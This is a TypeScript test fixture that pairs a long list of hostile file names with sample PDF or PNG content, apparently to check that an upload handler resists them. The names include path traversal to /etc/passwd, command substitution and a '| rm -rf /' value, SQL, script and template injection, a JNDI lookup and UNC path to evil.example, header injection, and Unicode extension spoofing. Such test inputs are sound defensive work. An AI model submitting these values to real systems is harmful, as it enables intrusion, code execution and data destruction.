import { type ProfileName, uploadProfiles } from '#domain/files/profiles.ts';
import type { HostileFile } from '#tests/hostile-file.ts';
import { aPdf, aPicture } from '#tests/sample-files.ts';

export async function hostileNames(profile: ProfileName): Promise<HostileFile[]> {
  const takesPdf = uploadProfiles[profile].types.some((type) => type === 'pdf');
  const content = takesPdf ? aPdf() : await aPicture('png', { width: 8, height: 8 });
  return names.map((name) => ({
    what: `the name ${JSON.stringify(name)}`,
    name,
    content,
    isNeverTaken: false,
  }));
}

const names = [
  '../../../etc/passwd',
  '..\\..\\windows\\system32\\x.dll',
  '/etc/cron.d/x',
  'C:\\autoexec.bat',
  '\\\\evil.example\\share\\x.png',
  'file:///etc/passwd',
  '%2e%2e%2f%2e%2e%2fx.png',
  '..%c0%af..%c0%afx.png',
  '....//....//x.png',
  '.',
  '..',
  '.htaccess',
  '.env',
  'a\0.png',
  'a.php\0.png',
  'a\r\nSet-Cookie: x=y\r\n.png',
  'a"; filename="b.html',
  "a'; drop table file; --.png",
  '<script>alert(document.domain)</script>.png',
  '"><img src=x onerror=alert(1)>.png',
  '$\u007bjndi:ldap://evil.example/a}.png',
  '{{7*7}}.png',
  '`id`.png',
  '$(id).png',
  '| rm -rf /',
  '-rf',
  '--help',
  '\u202egnp.exe',
  'photo\u202etxt.exe',
  'a\u200b.png\u2066.exe',
  '\ufeffa.png',
  'a.png.exe',
  'a.exe.png',
  'a.png ',
  'a.png.',
  'a.PNG::$DATA',
  'CON.png',
  'NUL',
  'a.svg',
  'a.html',
  'index.php',
  'x'.repeat(2_000),
  'é'.repeat(500),
  '👩‍🍳'.repeat(60),
  '   ',
  '',
  '\t\n.pdf',
  'Ａ．ｐｄｆ',
];
